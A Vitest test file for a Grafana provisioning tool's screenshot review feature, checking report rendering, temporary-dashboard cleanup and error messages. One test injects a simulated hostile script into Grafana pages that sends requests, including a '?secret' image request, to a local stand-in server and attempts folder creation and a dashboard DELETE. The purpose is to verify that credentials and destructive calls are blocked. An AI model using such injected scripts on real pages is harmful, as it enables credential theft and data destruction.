import { once } from "node:events";
import { readFile } from "node:fs/promises";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { beforeAll, describe, expect, onTestFinished, test } from "vitest";
import type { Browser } from "playwright-core";
import { CHROMIUM, startChromium } from "../../helpers/chromium.ts";
import { MARKS } from "../../helpers/mode.ts";
import { board, leftBy, picturesIn, scene, sizeOf, type Scene } from "./support.ts";

const reportOf = ({ project }: Scene) => join(project.directory, ".grafana-provision/review/review.html");
const html = (stage: Scene) => readFile(reportOf(stage), "utf8");

/** Three panels: one changes, one is removed, and one is new. */
async function changed(): Promise<Scene> {
  const stage = await scene();
  const { project, owner, variables } = stage;
  const done = { id: 2, title: "Done" };
  const before = [{ id: 1, title: "Waiting", colour: "rgb(255, 0, 0)" }, done, { id: 3, title: "Old" }];
  await project.write({ "resources/queue.ts": board(`${owner}-q`, "Queue", before) });
  const applied = await project.run(["apply", "--yes"], variables);
  expect(applied.code, applied.stderr).toBe(0);
  const after = [{ id: 1, title: "Waiting", colour: "rgb(0, 0, 255)" }, done, { id: 4, title: "New" }];
  await project.write({ "resources/queue.ts": board(`${owner}-q`, "Queue", after) });
  return stage;
}

describe.runIf(MARKS && CHROMIUM)("review --screenshots", () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await startChromium();
    return () => browser.close();
  });

  /** The color in the middle of a screenshot. */
  async function colourOf(url: string): Promise<unknown> {
    const page = await browser.newPage();
    const colour = await page.evaluate(`(async () => {
      const image = new Image();
      image.src = ${JSON.stringify(url)};
      await image.decode();
      const canvas = Object.assign(document.createElement("canvas"), { width: image.width, height: image.height });
      const context = canvas.getContext("2d");
      context.drawImage(image, 0, 0);
      return [...context.getImageData(image.width / 2, image.height / 2, 1, 1).data].join(",");
    })()`);
    await page.close();
    return colour;
  }

  test("adds each changed panel to the page, before and after, and leaves nothing in Grafana", async () => {
    const stage = await changed();
    const { code, stdout, stderr } = await stage.review();
    expect(code, stderr).toBe(0);
    expect(stdout).not.toContain("pictures");

    const pictures = new Map(picturesIn(await html(stage)).map(({ alt, url }) => [alt, url]));
    expect([...pictures.keys()].toSorted()).toEqual(["New, after", "Old, before", "Waiting, after", "Waiting, before"]);
    // 8 of 24 columns, 4 rows.
    expect([...pictures.values()].map(sizeOf)).toEqual(Array.from({ length: 4 }, () => [400, 144]));
    expect(await colourOf(pictures.get("Waiting, before") ?? "")).toBe("255,0,0,255");
    expect(await colourOf(pictures.get("Waiting, after") ?? "")).toBe("0,0,255,255");

    const queries = stage.pages.map((path) => new URL(path, stage.proxy.url).searchParams);
    expect(new Set(queries.map((query) => `${query.get("from")} ${query.get("to")}`)).size, "one time range").toBe(1);
    expect(await leftBy(stage)).toEqual([]);
    const trash =
      "/apis/dashboard.grafana.app/v1beta1/namespaces/default/dashboards?labelSelector=grafana.app/get-trash=true";
    const deleted = (await stage.grafana.other.send({ method: "GET", path: trash })) as {
      items: { metadata: { name: string } }[];
    };
    const copies = stage.pages.map((path) => path.split("/")[2]);
    expect(deleted.items.filter(({ metadata }) => copies.includes(metadata.name))).toEqual([]);
  });

  test("shows them with the differences of a panel, in a page that loads nothing", async () => {
    const stage = await changed();
    await stage.review();
    const page = await browser.newPage();
    const [asked, said]: [string[], string[]] = [[], []];
    page.on("request", (request) => asked.push(request.url()));
    page.on("console", (message) => said.push(message.text()));
    const report = pathToFileURL(reportOf(stage)).href;
    await page.goto(report);
    const inList = page.locator(".changes img");
    expect(await inList.count(), "shown without a click").toBe(4);
    for (const one of await inList.all()) expect(await one.isVisible()).toBe(true);
    await page.locator(".after .p", { hasText: "Waiting" }).click();
    const shown = page.locator("#drawer img");
    await expect.poll(() => shown.count()).toBe(2);
    const [before, after] = [await shown.nth(0).boundingBox(), await shown.nth(1).boundingBox()];
    expect(before?.y).toBe(after?.y);
    expect(after?.x).toBeGreaterThan((before?.x ?? 0) + (before?.width ?? 0));
    expect(asked.filter((url) => url !== report && !url.startsWith("data:"))).toEqual([]);
    expect(said).toEqual([]);
    await page.close();
  });

  test("works with --base too: both sides come from the code, the screenshots from Grafana", async () => {
    const { gitRepository } = await import("../support.ts");
    const stage = await scene();
    const before = board(`${stage.owner}-q`, "Queue", [{ id: 1, title: "Waiting" }]);
    const config = `export default { project: "${stage.owner}", resources: ["./resources"] };\n`;
    const repository = await gitRepository({ "grafana.config.ts": config, "resources/queue.ts": before });
    await repository.write({ "resources/queue.ts": before.replace("white", "red") });
    const { code, stderr } = await repository.run(["review", "--base", "HEAD", "--screenshots"], stage.variables);
    expect(code, stderr).toBe(0);
    const text = await html({ ...stage, project: repository });
    expect(picturesIn(text).map(({ alt }) => alt)).toEqual(["Waiting, before", "Waiting, after"]);
    expect(await leftBy(stage)).toEqual([]);
  });

  test.each([
    {
      what: "a page with an error",
      path: "/d-solo/",
      status: 500,
      says: /GET \/d-solo\/review-\S+ returned 500/,
    },
    {
      what: "a missing script",
      path: "/public/build/",
      status: 404,
      says: /GET \/public\/build\/app\.js returned 404/,
    },
  ])("reports a Grafana without a front end: $what", async ({ path, status, says }) => {
    const stage = await scene();
    const panels = [1, 2, 3, 4, 5].map((id) => ({ id, title: `Panel ${id}` }));
    await stage.project.write({ "resources/queue.ts": board(`${stage.owner}-q`, "Queue", panels) });
    const script = '<script src="/public/build/app.js"></script>';
    stage.decide(() => "pass", { more: script });
    const pages: string[] = [];
    const page = { status: 200, headers: { "content-type": "text/html" }, body: script };
    stage.proxy.decide((request) => {
      if (request.path.startsWith("/d-solo/")) pages.push(request.path);
      if (request.path.startsWith(path)) return { status, body: "no" };
      return request.path.startsWith("/d-solo/") ? page : "pass";
    });
    const { code, stdout } = await stage.review();
    expect(code).toBe(0);
    expect(stdout).toMatch(/No screenshots: Grafana's page can't be loaded: /);
    expect(stdout).toMatch(says);
    expect(pages, "the first one shows it").toHaveLength(1);
    expect(picturesIn(await html(stage))).toEqual([]);
    expect(await leftBy(stage)).toEqual([]);
  });

  test("sends its credentials only to Grafana, and changes nothing there", async () => {
    const stage = await changed();
    const heard: { path: string | undefined; headers: object }[] = [];
    const other = createServer(({ url, headers }, response) => {
      heard.push({ path: url, headers });
      response.end("");
    }).listen(0, "127.0.0.1");
    onTestFinished(() => void other.close());
    await once(other, "listening");
    const origin = `http://127.0.0.1:${(other.address() as AddressInfo).port}`;
    const seen: string[] = [];
    const attempt = `<script src="${origin}/cdn.js"></script><script src="/public/moved.js"></script><img src="${origin}/told?secret">
<script>for (const [url, method] of [["${origin}/post", "POST"], ["/api/folders", "POST"], ["/api/dashboards/uid/${stage.owner}-q", "DELETE"], ["/api/ds/query", "POST"]])
  fetch(url, { method, mode: "no-cors", body: method === "POST" ? "{}" : undefined }).catch(() => {});</script>`;
    stage.decide(
      ({ path, method }) => {
        seen.push(`${method} ${path}`);
        return path === "/public/moved.js" ? { status: 302, headers: { location: `${origin}/moved.js` } } : "pass";
      },
      { more: attempt },
    );
    const { code, stderr } = await stage.review();
    expect(code, stderr).toBe(0);
    expect(picturesIn(await html(stage))).toHaveLength(4);

    expect(new Set(heard.map(({ path }) => path))).toContain("/cdn.js");
    expect(heard.filter(({ path }) => path !== "/cdn.js")).toEqual([]);
    for (const { headers } of heard) {
      expect(Object.keys(headers)).not.toContain("authorization");
      expect(Object.keys(headers)).not.toContain("cookie");
    }
    expect(seen).toContain("POST /api/ds/query");
    expect(seen).not.toContain("POST /api/folders");
    expect(seen).not.toContain(`DELETE /api/dashboards/uid/${stage.owner}-q`);
  });

  test("creates a folder that plans ignore and that is not pruned", async () => {
    const stage = await changed();
    const plans: string[] = [];
    let planning: Promise<unknown> | undefined;
    stage.proxy.decide(async ({ path }) => {
      if (!path.startsWith("/d-solo/")) return "pass";
      const left = await leftBy(stage);
      planning ??= stage.project
        .run(["plan", "--prune", "--adopt", "-o", "json"], stage.grafana.variables)
        .then(({ stdout }) => plans.push(stdout, String(left.length)));
      await planning;
      return { status: 500, body: "" };
    });
    await stage.review();
    const [plan = "{}", left] = plans;
    expect(Number(left)).toBeGreaterThanOrEqual(2);
    expect(plan).not.toContain("review-");
    expect(JSON.parse(plan)).toMatchObject({ changes: [{ id: `${stage.owner}-q` }], orphans: [] });
  });
});

describe.runIf(MARKS)("without a browser or a Grafana", () => {
  const PANELS = [{ id: 1, title: "Waiting" }];

  test("the page has the drawn grid, and a note with the reason", async () => {
    const stage = await scene();
    await stage.project.write({ "resources/queue.ts": board(`${stage.owner}-q`, "Queue", PANELS) });
    const empty = { PATH: stage.project.directory };
    const none = await stage.review([], empty);
    expect(none.code, none.stderr).toBe(0);
    expect(none.stdout).toContain("No screenshots: no Chromium was found");
    const wrong = await stage.review([], { CHROMIUM: "/nowhere/chromium" });
    expect(wrong.stdout).toContain("No screenshots: CHROMIUM: /nowhere/chromium is not an executable file.");
    const text = await html(stage);
    expect(text).toContain("CHROMIUM: /nowhere/chromium");
    expect(text).toContain('class="grid"');
    expect(await leftBy(stage)).toEqual([]);
  });

  test("the sandbox has no front end", async () => {
    const { project } = await scene();
    await project.write({ "resources/queue.ts": board("q", "Queue", PANELS) });
    const { code, stdout } = await project.run(["review", "--screenshots"]);
    expect(code).toBe(0);
    expect(stdout).toContain("No screenshots: the sandbox can't render panels. Set GRAFANA_URL.");
  });
});
